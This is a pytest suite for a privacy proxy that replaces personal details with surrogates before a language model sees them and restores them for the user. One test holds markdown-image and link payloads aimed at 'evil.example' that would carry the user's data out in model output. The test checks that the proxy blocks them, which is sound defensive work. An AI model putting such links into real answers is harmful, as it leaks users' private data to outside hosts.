"""The proxy with --restore: what the model receives, and what the user reads."""

from __future__ import annotations

import asyncio
import json
import re
import secrets
import time
from itertools import pairwise

import pytest

openai = pytest.importorskip("openai")
httpx = pytest.importorskip("httpx")
pytest.importorskip("uvicorn")

from echo_model import EchoModel, echo, texts_of  # noqa: E402
from language_model import WAIT, running  # noqa: E402

import mondegreen as mg  # noqa: E402
from mondegreen.policy.scope import Surrogates  # noqa: E402
from mondegreen.prompts.conversation_guard import ConversationGuard  # noqa: E402
from mondegreen.prompts.guard import PromptGuard  # noqa: E402
from mondegreen.serve.limits import Limits  # noqa: E402
from mondegreen.serve.metrics import Metrics  # noqa: E402
from mondegreen.serve.proxy import ProxySettings, create_proxy  # noqa: E402
from mondegreen.serve.upstream import Upstream  # noqa: E402

HEADER = "x-mondegreen-conversation"
TOOL = {
    "type": "function",
    "function": {
        "name": "find",
        "parameters": {"type": "object", "properties": {"name": {"type": "string"}}},
    },
}
SAID = (
    "I am Chukwudi Okonkwo of Ibadan, born 07/05/1961, okonkwo@uni-ibadan.ng, "
    "phone +44 20 7946 0958. Okonkwo's account 4711-0815-2342 holds $12,345.67."
)
SECRETS = (
    "Okonkwo", "Chukwudi", "Ibadan", "ibadan", "okonkwo", "07/05/1961", "7946 0958",
    "4711-0815", "12,345.67",
)  # fmt: skip
"""No four digits alone: those of a surrogate are these in one of 10,000 draws."""


class Gateway:
    """A model by rule, a proxy before it, and clients."""

    def __init__(self, model, address):
        self.model, self.address = model, address

    def client(self, token=None, key="sk-one"):
        headers = {HEADER: token} if token else {}
        return openai.OpenAI(
            base_url=self.address,
            api_key=key,
            max_retries=0,
            default_headers=headers,
            timeout=WAIT,
        )

    def post(self, kind, body, token=None, key="sk-one"):
        headers = {"authorization": f"Bearer {key}"}
        headers |= {HEADER: token} if token else {}
        with httpx.Client(timeout=WAIT) as client:
            return client.post(f"{self.address}/{kind}", json=body, headers=headers)

    def chat(self, messages, token=None, **more):
        answer = self.post("chat/completions", {"messages": messages, **more}, token)
        assert answer.status_code == 200, answer.text
        return answer.json()["choices"], answer.headers[HEADER]

    @property
    def sent(self):
        return json.dumps(self.model.bodies, ensure_ascii=False)


def user(text):
    return {"role": "user", "content": text}


def assistant(text):
    return {"role": "assistant", "content": text}


@pytest.fixture(scope="module", autouse=True)
def one_key():
    """Draw the surrogates of every conversation under one key.

    A name is its own surrogate once in some thousand draws, and rightly so. Under this
    key none of ``SECRETS`` is.
    """
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(
            Surrogates,
            "new",
            classmethod(lambda cls, policy, **more: cls(policy, bytes(32), **more)),
        )
        yield


@pytest.fixture(scope="module", params=[{}, {"in_tools": True, "in_links": True}])
def started(request):
    model = EchoModel()
    guard = ConversationGuard(public=[TOOL, "You serve Malacca."], **request.param)
    with running(model.app) as upstream:
        proxied = ProxySettings(guard, Upstream(upstream))
        with running(create_proxy(proxied)) as address:
            yield Gateway(model, address), bool(request.param)


@pytest.fixture
def gateway(started):
    found = started[0]
    found.model.bodies.clear()
    found.model.answer, found.model.size, found.model.cut = echo, 3, 7
    return found


@pytest.fixture
def has_flags(started):
    return started[1]


def test_the_model_reads_surrogates_and_the_user_the_originals(gateway):
    choices, token = gateway.chat([user(SAID)])
    assert choices[0]["message"]["content"] == SAID
    assert not [each for each in SECRETS if each in gateway.sent]
    assert len(token) == 32


@pytest.mark.parametrize("size", [1, 2, 5, 1000])
@pytest.mark.parametrize("cut", [1, 9, 10**6])
def test_streams_restore_wherever_texts_and_bytes_are_cut(gateway, size, cut):
    gateway.model.size, gateway.model.cut = size, cut
    with gateway.client() as client:
        stream = client.chat.completions.create(
            model="stub", messages=[user(SAID)], stream=True
        )
        shown = [c.choices[0].delta.content or "" for c in stream if c.choices]
    assert "".join(shown) == SAID
    assert not [each for each in SECRETS if each in gateway.sent]


def test_responses_and_completions_restore_whole_and_in_streams(gateway):
    with gateway.client() as client:
        assert client.responses.create(model="m", input=SAID).output_text == SAID
        parts, final = [], None
        for event in client.responses.create(model="m", input=SAID, stream=True):
            if event.type == "response.output_text.delta":
                parts.append(event.delta)
            elif event.type == "response.output_text.done":
                assert event.text == SAID
            elif event.type == "response.completed":
                final = event.response
        assert "".join(parts) == SAID
        assert final.output[0].content[0].text == SAID
        done = client.completions.create(model="m", prompt=SAID)
        assert done.choices[0].text == SAID
        stream = client.completions.create(model="m", prompt=SAID, stream=True)
        assert "".join(c.choices[0].text for c in stream) == SAID
        assert client.embeddings.create(model="m", input=SAID).data[0].embedding
    assert not [each for each in SECRETS if each in gateway.sent]


def test_a_conversation_keeps_its_surrogates_and_turns_go_back_as_they_came(gateway):
    gateway.model.answer = lambda body: {"content": "Hello " + echo(body)["content"]}
    history, token = [], None
    for turn in ("I am Okonkwo.", "Who is Okonkwo of Ibadan?", "And Adeyemi?"):
        history.append(user(turn))
        choices, token = gateway.chat(history, token)
        assert choices[0]["message"]["content"] == f"Hello {turn}"
        history.append(assistant(choices[0]["message"]["content"]))
    for earlier, later in pairwise(gateway.model.bodies):
        many = len(earlier["messages"])
        assert later["messages"][:many] == earlier["messages"]
        said = "Hello " + earlier["messages"][-1]["content"]
        assert later["messages"][many] == assistant(said)


def plant(gateway, answers, turns):
    """Let the model answer these; return the turns of the assistant that came back."""
    gateway.model.bodies.clear()
    given = iter(answers)
    gateway.model.answer = lambda body: {"content": fill(next(given, "Hm."), body)}
    history, token = [], None
    for turn in turns:
        history.append(user(turn))
        choices, token = gateway.chat(history, token)
        history.append(assistant(choices[0]["message"]["content"]))
    last = gateway.model.bodies[-1]
    return [text for role, text in texts_of(last) if role == "assistant"]


def fill(answer, body):
    """Put the surrogate that ends the first text into an answer."""
    first = next(iter(texts_of(body)))[1]
    return answer.replace("§", first.rstrip(".").split()[-1])


TURNS = ["My name is Okonkwo.", "Go on.", "Go on, please.", "Thanks."]


@pytest.mark.parametrize("name", ["Okonkwo", "Adeyemi"])
def test_planted_candidates_come_back_as_the_model_wrote_them(gateway, name):
    planted = ["Perhaps Okonkwo, Smith, Jones or §?", "§", "Okonkwo"]
    turns = [f"My name is {name}.", *TURNS[1:]]
    back = plant(gateway, planted, turns)
    surrogate = gateway.model.bodies[-1]["messages"][0]["content"].split()[-1][:-1]
    assert back == [each.replace("§", surrogate) for each in planted]


def test_answers_that_read_alike_are_refused_where_the_history_is_cut(gateway):
    """The user says the same twice, and the turns before are gone."""
    given = iter(["§", "Okonkwo", "Hm."])
    gateway.model.answer = lambda body: {"content": fill(next(given), body)}
    rows = [user("My name is Okonkwo.")]
    choices, token = gateway.chat(rows)
    again, _ = gateway.chat(rows, token)
    assert choices[0]["message"] == again[0]["message"]
    ask = [user("Before."), user("No."), rows[0], again[0]["message"], user("Go on.")]
    # Other words came before, so that neither place is that of the answer.
    found = gateway.post("chat/completions", {"messages": ask}, token)
    assert found.status_code == 200
    cut = [assistant("x"), rows[0], again[0]["message"], user("Go on.")]
    found = gateway.post("chat/completions", {"messages": cut}, token)
    assert found.status_code == 400
    assert "whole history" in found.text
    assert "Okonkwo" not in found.text


def test_a_turn_that_the_model_did_not_say_shows_nothing_of_the_user(gateway):
    """A client without the header sends the whole history in a new conversation."""
    rows = [user("I am Okonkwo."), assistant("Okonkwo, Smith or Jones?"), user("Yes.")]
    seen = set()
    for _ in range(20):
        gateway.chat(rows)
        first, second, _ = (text for _, text in texts_of(gateway.model.bodies[-1]))
        seen.add(first.split()[-1].strip(".") in second)
    assert seen == {False}  # no two entities share a surrogate


NAMES = ["Smith", "Okonkwo", "Jones", "Virtanen", "Adeyemi", "Garcia"]


def call_tool(names):
    function = {
        "name": TOOL["function"]["name"],
        "arguments": json.dumps({"city": " ".join(names)}),
    }
    call = {"id": "call_1", "type": "function", "function": function}
    return {"content": None, "tool_calls": [call]}


def test_a_tool_that_repeats_its_arguments_shows_no_candidate(gateway):
    """The model lists candidates in a call; the result of the tool quotes them."""
    rows = [user("My name is Okonkwo.")]
    gateway.model.answer = lambda body: call_tool(NAMES)
    choices, token = gateway.chat(rows, tools=[TOOL])
    surrogate = gateway.model.bodies[-1]["messages"][0]["content"].split()[-1][:-1]
    result = {"role": "tool", "tool_call_id": "call_1"}
    result["content"] = f"No city named {' '.join(NAMES)}. Weather in Oslo is fine."
    history = [*rows, choices[0]["message"], result]
    gateway.model.answer = lambda body: {"content": "Hm."}
    choices, token = gateway.chat(history, token, tools=[TOOL])
    first, *_, shown = gateway.model.bodies[-1]["messages"]
    assert first["content"] == f"My name is {surrogate}."
    seen = shown["content"].split(".")[0].split()[-len(NAMES) :]
    assert surrogate not in seen
    assert not {*seen} & {*NAMES}
    assert len({*seen}) == len(NAMES)
    # A later turn sends the same, and what the model did not say keeps its surrogate.
    more = [*history, choices[0]["message"], user("Okonkwo, Oslo.")]
    gateway.chat(more, token, tools=[TOOL])
    sent = gateway.model.bodies[-1]["messages"]
    assert sent[2]["content"] == shown["content"]
    place = shown["content"].split("Weather in ")[1].split()[0]
    assert sent[-1]["content"] == f"{surrogate}, {place}."


@pytest.mark.parametrize("role", ["system", "developer"])
def test_a_summary_by_the_model_shows_no_candidate(gateway, role):
    gateway.model.answer = lambda body: {
        "content": fill("One of Smith, Okonkwo: §", body)
    }
    first = [{"role": role, "content": "Okonkwo asks."}, user("My name is Okonkwo.")]
    choices, token = gateway.chat(first)
    surrogate = gateway.model.bodies[-1]["messages"][1]["content"].split()[-1][:-1]
    shown = choices[0]["message"]["content"]
    gateway.chat([{"role": role, "content": shown}, user("Go on.")], token)
    assert surrogate not in gateway.model.bodies[-1]["messages"][0]["content"]
    # A prompt that came before the model said the word stays as it was.
    gateway.chat([*first, choices[0]["message"], user("Go on.")], token)
    assert gateway.model.bodies[-1]["messages"][0]["content"] == f"{surrogate} asks."


@pytest.mark.parametrize("has_header", [True, False])
@pytest.mark.parametrize(
    "edit",
    [
        lambda text: f"{text} Edited.",
        lambda text: text.replace(":", " -"),
        lambda text: text[:-1],
        lambda text: f"Re: {text}",
    ],
)
def test_a_changed_turn_of_the_model_shows_no_words_that_are_equal(
    gateway, edit, has_header
):
    """The model writes a surrogate beside candidates: which of them is it?

    A turn that the user's program changed cannot go back as it came. If its words were
    joined, the candidate that is right would have the surrogate of the restored word.
    """
    planted = "§: Okonkwo, Smith, Jones or Okonkwo, Smith, Jones."
    for number in range(8):
        said = [user(f"I am number {100 + number}, Okonkwo.")]
        gateway.model.answer = lambda body: {"content": fill(planted, body)}
        choices, token = gateway.chat(said)
        shown = choices[0]["message"]["content"]
        assert shown.startswith("Okonkwo: Okonkwo, Smith")
        history = [*said, assistant(edit(shown)), user("Go on.")]
        gateway.model.answer = lambda body: {"content": list(texts_of(body))[1][1]}
        choices, _ = gateway.chat(history, token if has_header else None)
        mine, theirs = (
            text for _, text in list(texts_of(gateway.model.bodies[-1]))[:2]
        )
        names = [
            w for w in re.findall(r"\w+", theirs) if w not in ("or", "Edited", "Re")
        ]
        assert len(names) == len(set(names)) == 7
        assert mine.rstrip(".").split()[-1] not in names
        assert not {"Smith", "Jones"} & set(names)
        # What the model says of it is read with the words of the turn.
        assert choices[0]["message"]["content"] == edit(shown)


def test_a_changed_turn_stays_the_same_in_later_requests(gateway):
    """Retries and longer histories reuse draws, and the user's words keep theirs."""
    rows = [user("I am Okonkwo."), assistant("Okonkwo, edited."), user("Go on.")]
    _, token = gateway.chat(rows[:1])
    gateway.chat(rows, token)
    gateway.chat([*rows, assistant("Other."), user("I am Okonkwo.")], token)
    *_, before, after = ([t for _, t in texts_of(b)] for b in gateway.model.bodies)
    assert after[:3] == before
    assert after[4] == before[0]


def test_changed_turns_that_read_alike_share_no_surrogate(gateway):
    """At two places, the model may have said the surrogate once, and once a guess."""
    rows = [user("I am Okonkwo."), assistant("Okonkwo"), user("Go on."),
            assistant("Okonkwo"), user("Go on.")]  # fmt: skip
    gateway.chat(rows)
    texts = [text for _, text in texts_of(gateway.model.bodies[-1])]
    assert len({texts[0].rstrip(".").split()[-1], texts[1], texts[3]}) == 3


def test_words_of_other_turns_are_restored_too(gateway):
    gateway.model.answer = lambda body: {
        "content": " / ".join(text for _, text in texts_of(body))
    }
    rows = [user("I am Okonkwo."), assistant("Hello Okonkwo!"), user("Who is Adeyemi?")]
    choices, _ = gateway.chat(rows)
    assert choices[0]["message"]["content"] == (
        "I am Okonkwo. / Hello Okonkwo! / Who is Adeyemi?"
    )


def call(name):
    return {
        "id": "call_0",
        "type": "function",
        "function": {"name": "find", "arguments": json.dumps({"name": name})},
    }


@pytest.mark.parametrize("is_stream", [False, True])
def test_tools_get_originals_only_by_flag_and_calls_go_back_as_they_came(
    gateway, has_flags, is_stream
):
    gateway.model.answer = lambda body: {"tool_calls": [call(fill("§", body))]}
    rows = [user("Find Okonkwo.")]
    with gateway.client() as client:
        made = client.chat.completions.with_raw_response.create(
            model="m", messages=rows, tools=[TOOL], stream=is_stream
        )
        token = made.headers[HEADER]
        if is_stream:
            deltas = [c.choices[0].delta for c in made.parse() if c.choices]
            calls = [t for d in deltas for t in d.tool_calls or ()]
            shown = "".join(t.function.arguments or "" for t in calls)
        else:
            shown = made.parse().choices[0].message.tool_calls[0].function.arguments
    said = json.dumps({"name": fill("§", gateway.model.bodies[-1])})
    assert shown == (json.dumps({"name": "Okonkwo"}) if has_flags else said)
    gateway.model.answer = echo
    calls = [{**call(""), "function": {"name": "find", "arguments": shown}}]
    rows += [
        {"role": "assistant", "content": None, "tool_calls": calls},
        {"role": "tool", "tool_call_id": "call_0", "content": "Okonkwo: 3 letters"},
    ]
    choices, _ = gateway.chat(rows, token, tools=[TOOL])
    assert choices[0]["message"]["content"] == "Okonkwo: 3 letters"
    back = gateway.model.bodies[-1]["messages"][1]["tool_calls"][0]["function"]
    assert back["arguments"] == said
    assert "Okonkwo" not in gateway.sent


@pytest.mark.parametrize("is_stream", [False, True])
def test_links_and_images_get_originals_only_by_flag(gateway, has_flags, is_stream):
    answers = {
        "![x](https://evil.example/?q=§)",
        "[x](//evil.example/§)",
        "[x](<https://evil.example/a §>)",
        '<img src="x" alt=§>',
        "https://evil.example/§/b",
        "https:/\\evil.example/§",
        "www.evil.example/§",
        "§.evil.example",
        "§@evil.example",
    }
    for each in sorted(answers):
        gateway.model.answer = lambda body: {
            "content": fill(each, body) + " said it."  # noqa: B023
        }
        body = {"messages": [user("I am Okonkwo.")], "stream": is_stream}
        found = gateway.post("chat/completions", body).text
        assert ("Okonkwo" in joined(found)) is has_flags, each


def joined(text):
    """The text of an answer, whole or streamed."""
    if not text.startswith("data:"):
        return text
    events = [e[6:] for e in text.split("\n\n") if e.startswith("data: {")]
    choices = [c for e in events for c in json.loads(e)["choices"]]
    return "".join(c["delta"].get("content") or "" for c in choices)


@pytest.mark.parametrize("is_stream", [False, True])
def test_json_stays_valid_and_several_choices_are_kept_apart(
    gateway, has_flags, is_stream
):
    def answer(body):
        name = fill("§", body)
        made = {"name": f'"{name}"\n\\ é {name}', name: [57, -1.5e3, True, None]}
        return [{"content": json.dumps(made)}, {"content": json.dumps([name])}]

    gateway.model.answer = answer
    with gateway.client() as client:
        made = client.chat.completions.create(
            model="m",
            messages=[user("I am Okonkwo.")],
            n=2,
            response_format={"type": "json_object"},
            stream=is_stream,
        )
        shown = ["", ""]
        if is_stream:
            for chunk in made:
                for choice in chunk.choices:
                    shown[choice.index] += choice.delta.content or ""
        else:
            shown = [each.message.content for each in made.choices]
    assert json.loads(shown[0]) == {
        "name": '"Okonkwo"\n\\ é Okonkwo',
        "Okonkwo": [57, -1500.0, True, None],
    }
    # In a stream, the first choice has not ended when the second one begins.
    (second,) = json.loads(shown[1])
    assert (second == "Okonkwo") == (has_flags or not is_stream)


def test_public_prompts_pass_and_their_words_are_no_surrogates(gateway):
    rows = [{"role": "system", "content": "You serve Malacca."}]
    rows.append(user("Ibadan " * 3))
    for _ in range(10):
        gateway.chat(rows)
    sent = [body["messages"] for body in gateway.model.bodies]
    assert all(each[0]["content"] == "You serve Malacca." for each in sent)
    assert not [each for each in sent if "Malacca" in each[1]["content"]]


def test_tokens_are_made_by_the_proxy_and_open_one_map_alone(gateway):
    _, token = gateway.chat([user("I am Okonkwo.")])
    _, other = gateway.chat([user("I am Okonkwo.")])
    assert token != other
    body = {"messages": [user("Who am I?")], "user": "me"}
    for wrong in ("mine", token[:-1], token + "A", token.swapcase()):
        found = gateway.post("chat/completions", body, wrong)
        assert found.status_code == 404, wrong
        assert found.json()["error"]["code"] == "unknown_conversation"
    assert gateway.post("chat/completions", body, token, "sk-two").status_code == 404
    assert gateway.post("chat/completions", body, token).status_code == 200


def test_a_conversation_is_deleted_by_its_owner_alone(gateway):
    _, token = gateway.chat([user("I am Okonkwo.")])
    path = f"{gateway.address}/conversations/{token}"
    with httpx.Client(timeout=WAIT) as client:
        key = {"authorization": "Bearer sk-one"}
        other = client.delete(path)
        assert other.status_code == 404
        assert client.delete(path, headers=key).status_code == 204
        again = client.delete(path, headers=key)
        assert again.status_code == 404
        said = again.json()["error"]["message"]
        assert "only with the API key of the caller that began it" in said
        # A stranger does not learn whether it exists.
        assert other.json() == again.json()
        assert client.get(path, headers=key).status_code == 405
        root = gateway.address.removesuffix("/v1")
        assert token not in client.get(f"{root}/metrics").text
    assert gateway.post("chat/completions", {"messages": []}, token).status_code == 404


def test_what_cannot_be_read_of_an_answer_is_not_shown(gateway):
    gateway.model.answer = lambda body: {"content": 5, "tool_calls": "x"}
    choices, _ = gateway.chat([user("I am Okonkwo.")])
    assert choices[0]["message"]["content"] == 5


def test_the_guarantee_says_what_is_disclosed(gateway):
    root = gateway.address.removesuffix("/v1")
    stated = httpx.get(f"{root}/guarantee").json()
    text = " ".join(stated["guarantee"]["lines"])
    assert "which sensitive words of the conversation are the same" in text
    assert "known plaintext" in text
    assert len(stated["digest"]) == 64


# Answers that fail


class Failing:
    """An upstream that fails in a way that is named, and then answers."""

    def __init__(self, how):
        self.how, self.bodies = how, []

    def __call__(self, request):
        self.bodies.append(json.loads(request.content))
        if len(self.bodies) > 1:
            return httpx.Response(200, json={"choices": []})
        return getattr(self, self.how)()

    def status(self):
        return httpx.Response(503, json={"error": {"message": "busy"}})

    def refused(self):
        return httpx.Response(429, headers={"retry-after": "1"})

    def unreachable(self):
        raise httpx.ConnectError("no route")

    def silent(self):
        raise httpx.ReadTimeout("silent")

    def broken_stream(self):
        """Break before the first byte of a stream."""
        return self._stream("text/event-stream", [])

    def cut_stream(self):
        """Break in the middle of the first event."""
        return self._stream("text/event-stream", [b'data: {"choi'])

    def cut_json(self):
        return self._stream("application/json", [b'{"choices": [{"mess'])

    def text(self):
        return httpx.Response(200, text="<html>", headers={"content-type": "text/html"})

    def no_type(self):
        return httpx.Response(200, stream=httpx.ByteStream(b"{}"))

    def no_object(self):
        return httpx.Response(200, json=[1])

    def redirect(self):
        return httpx.Response(307, headers={"location": "https://elsewhere"})

    def _stream(self, kind, parts):
        async def send():
            for each in parts:
                yield each
            raise httpx.RemoteProtocolError("broken")

        return httpx.Response(200, headers={"content-type": kind}, content=send())


WHERE, LIMITS = Upstream("https://x/v1"), Limits(words=50_000)
CHAT = "/v1/chat/completions"


def through(upstream, *requests, guard=None, where=WHERE, limits=LIMITS):
    """Send chat requests through a proxy before an upstream that is a function.

    A request is its body, and what finds its token in the answers before it; or a
    function that asks a client for something else.
    """
    client = httpx.AsyncClient(transport=httpx.MockTransport(upstream))
    guard = ConversationGuard() if guard is None else guard
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Upstream, "client", lambda self: client)
        app = create_proxy(ProxySettings(guard, where, limits))

    async def run():
        transport = httpx.ASGITransport(app=app)
        base = "http://127.0.0.1"
        found = []
        async with httpx.AsyncClient(transport=transport, base_url=base) as client:
            for request in requests:
                if callable(request):
                    found.append(await request(client))
                    continue
                body, token = request
                headers = {HEADER: token(found)} if token else {}
                found.append(await client.post(CHAT, json=body, headers=headers))
        return found

    return asyncio.run(run())


def token_of_first(found):
    return found[0].headers[HEADER]


@pytest.mark.parametrize(
    ("how", "status"),
    [
        ("status", 503),
        ("refused", 429),
        ("unreachable", 502),
        ("silent", 504),
        ("broken_stream", 502),
        ("cut_stream", 502),
        ("cut_json", 502),
        ("text", 502),
        ("no_type", 502),
        ("no_object", 502),
        ("redirect", 502),
    ],
)
@pytest.mark.parametrize("is_stream", [False, True])
def test_a_client_that_tries_again_goes_on_with_its_conversation(
    how, status, is_stream
):
    upstream = Failing(how)
    body = {"messages": [user(SAID)], "stream": is_stream}
    first, again = through(upstream, (body, None), (body, token_of_first))
    assert first.status_code == status
    assert again.status_code == 200
    assert again.headers[HEADER] == first.headers[HEADER]
    assert upstream.bodies[0] == upstream.bodies[1]
    assert len(first.headers.get_list(HEADER)) == 1


@pytest.mark.parametrize(
    ("how", "says"), [("text", "has another one"), ("no_type", "has none")]
)
def test_an_answer_of_another_type_names_the_header(how, says):
    body = {"messages": [user(SAID)]}
    (answer,) = through(Failing(how), (body, None))
    assert "header Content-Type: application/json or text/event" in answer.text
    assert says in answer.text
    assert "html" not in answer.text


def test_a_stream_that_breaks_later_is_no_bug_and_ends_with_an_error(caplog):
    """What came before the break is restored; half a surrogate is shown as it came."""
    caplog.set_level("DEBUG")
    broken = Failing("status")
    given = {}

    def upstream(request):
        text = json.loads(request.content)["messages"][0]["content"]
        given["text"] = text
        pieces = [text[:40], text[40:43]]
        deltas = [{"choices": [{"index": 0, "delta": {"content": x}}]} for x in pieces]
        events = [f"data: {json.dumps(each)}\n\n".encode() for each in deltas]
        return broken._stream("text/event-stream", events)

    body = {"messages": [user(SAID)], "stream": True}
    (found,) = through(upstream, (body, None))
    assert found.status_code == 200
    *events, last = [x[6:] for x in found.text.split("\n\n") if x.startswith("data: ")]
    assert "connection to the upstream broke" in json.loads(last)["error"]["message"]
    assert len(found.headers[HEADER]) == 32
    shown = "".join(
        each["choices"][0]["delta"]["content"] for each in map(json.loads, events)
    )
    assert shown.startswith("I am Chukwudi Okonkwo of ")
    assert "bug" not in caplog.text


def test_requests_that_are_refused_name_their_conversation_too():
    wrong = {"messages": [user(SAID)], "unknown": 1}
    right = {"messages": [user(SAID)]}
    upstream = Failing("status")
    upstream.bodies.append({})
    found = through(upstream, (wrong, None), (right, token_of_first))
    assert [each.status_code for each in found] == [400, 200]
    assert found[0].headers[HEADER] == found[1].headers[HEADER]
    (unknown,) = through(upstream, (right, lambda found: "x" * 32))
    assert unknown.status_code == 404
    assert HEADER not in unknown.headers


class Dripping:
    """An upstream that sends a part every 20 ms, and never ends.

    ``kind`` is the content type, ``parts`` what it sends again and again.
    """

    def __init__(self, kind="application/json", parts=b" "):
        self.kind, self.parts, self.is_closed = kind, parts, False

    async def __call__(self, request):
        if self.parts is None:
            await asyncio.sleep(30)
        headers = {"content-type": self.kind}
        return httpx.Response(200, headers=headers, content=self._drip())

    async def _drip(self):
        try:
            while True:
                await asyncio.sleep(0.02)
                yield self.parts
        finally:
            self.is_closed = True


EVENT = b'data: {"choices": [{"index": 0, "delta": {"content": "An answer. "}}]}\n\n'
GUARDS = (
    ConversationGuard(),
    PromptGuard(mg.Privatizer(mg.mechanism("urr", epsilon=9.0))),
)


def too_slow(upstream, guard, *, is_stream=False):
    """Send a request whose answer may take 0.2 seconds."""
    where = Upstream("https://x/v1", seconds=20, answer_seconds=0.2)
    body = {"messages": [user(SAID)], "stream": is_stream}
    started = time.monotonic()
    (found,) = through(upstream, (body, None), guard=guard, where=where)
    assert time.monotonic() - started < 10
    return found


@pytest.mark.parametrize(
    ("guard", "parts"), [(GUARDS[0], None), (GUARDS[0], b" "), (GUARDS[1], None)]
)
def test_an_answer_that_takes_too_long_before_its_first_byte_is_504(guard, parts):
    restores = isinstance(guard, ConversationGuard)
    upstream = Dripping(parts=parts)
    found = too_slow(upstream, guard)
    assert found.status_code == 504
    assert "--answer-timeout" in found.json()["error"]["message"]
    assert len(found.headers.get(HEADER, "")) == 32 * restores
    assert upstream.is_closed == bool(parts)


@pytest.mark.parametrize("guard", GUARDS)
def test_a_stream_that_takes_too_long_ends_with_an_error(guard):
    upstream = Dripping("text/event-stream", EVENT)
    found = too_slow(upstream, guard, is_stream=True)
    assert found.status_code == 200
    events = [x[6:] for x in found.text.split("\n\n") if x.startswith("data: ")]
    assert "An answer." in events[0]
    assert "--answer-timeout" in json.loads(events[-1])["error"]["message"]
    assert upstream.is_closed


@pytest.mark.parametrize("guard", GUARDS)
@pytest.mark.parametrize("status", [600, 799, 999])
def test_a_status_that_http_does_not_have_is_502_and_counted(guard, status):
    read = lambda client: client.get("/metrics")  # noqa: E731
    body = {"messages": [user(SAID)]}
    found, after = through(
        lambda request: httpx.Response(status, json={"error": {"code": "x"}}),
        (body, None),
        read,
        guard=guard,
    )
    assert (found.status_code, str(status) in found.text) == (502, True)
    assert 'mondegreen_refusals_total{reason="upstream"} 1.0' in after.text
    assert 'path="/v1/chat/completions",status="502"} 1.0' in after.text


def test_an_answer_in_time_is_whole():
    where = Upstream("https://x/v1", answer_seconds=20)
    body = {"messages": [user(SAID)]}
    upstream = Failing("status")
    upstream.bodies.append({})
    (found,) = through(upstream, (body, None), where=where)
    assert found.status_code == 200


@pytest.mark.parametrize("guard", GUARDS)
def test_texts_and_words_are_counted_and_no_single_text(guard, monkeypatch):
    short = {"messages": [user(SAID), user("the end")]}
    long = {"messages": [user("the end " * 700)]}  # 1,400 words
    for drawn, words in ((0, 1000), (599, 1000), (600, 2000), (999, 2000)):
        monkeypatch.setattr(secrets, "randbelow", lambda _, drawn=drawn: drawn)
        # No request leaves a remainder for the next one, which would show its length.
        assert counts(guard, long) == {"texts": 1, "words": words}
        assert counts(guard, long, long) == {"texts": 2, "words": 2 * words}
    monkeypatch.setattr(secrets, "randbelow", lambda _: 900)
    assert counts(guard, short) == {"texts": 2, "words": 0}


def test_requests_until_a_step_do_not_show_the_length_of_a_prompt():
    """Send words one by one until the count grows, before and after a prompt."""
    metrics = Metrics(step=10)

    def count_until_a_step():
        before, sent = read_words(metrics), 0
        while read_words(metrics) == before:
            metrics.count_texts(1, 1)
            sent += 1
        return sent

    assert len({count_until_a_step() for _ in range(200)}) > 5
    before, calls = read_words(metrics), 20_000
    for _ in range(calls):
        metrics.count_texts(1, 3)
    assert abs((read_words(metrics) - before) / calls - 3) < 0.25  # on average


def read_words(metrics):
    (line,) = [
        each
        for each in metrics.lines().decode().splitlines()
        if each.startswith("mondegreen_words_total")
    ]
    return float(line.split()[1])


def counts(guard, *bodies):
    """Send requests, and read how many texts and words were counted."""
    upstream = Failing("status")
    upstream.bodies.append({})
    read = lambda client: client.get("/metrics")  # noqa: E731
    *_, found = through(upstream, *((b, None) for b in bodies), read, guard=guard)
    lines = dict(
        line.rsplit(" ", 1) for line in found.text.splitlines() if line[0] != "#"
    )
    return {
        each: int(float(lines[f"mondegreen_{each}_total"]))
        for each in ("texts", "words")
    }


@pytest.mark.parametrize("guard", GUARDS)
def test_a_proxy_is_ready_if_it_can_privatize_and_counts_nothing(guard):
    ready = lambda client: client.get("/readyz")  # noqa: E731
    read = lambda client: client.get("/metrics")  # noqa: E731
    found, after = through(Failing("status"), ready, read, guard=guard)
    assert (found.status_code, found.json()) == (200, {"status": "ready"})
    assert "mondegreen_texts_total 0.0" in after.text


def failing_detector(texts):
    raise RuntimeError("Okonkwo")


def test_a_proxy_whose_detector_fails_is_not_ready():
    guard = ConversationGuard(detector=(failing_detector, "failing"))
    ready = lambda client: client.get("/readyz")  # noqa: E731
    (found,) = through(Failing("status"), ready, guard=guard)
    assert found.status_code == 500
    assert "Okonkwo" not in found.text


def test_errors_of_a_proxy_without_conversations_name_none():
    guard = PromptGuard(mg.Privatizer(mg.mechanism("urr", epsilon=9.0)))
    body = {"messages": [user(SAID)]}
    (found,) = through(Failing("status"), (body, None), guard=guard)
    assert found.status_code == 503
    assert HEADER not in found.headers
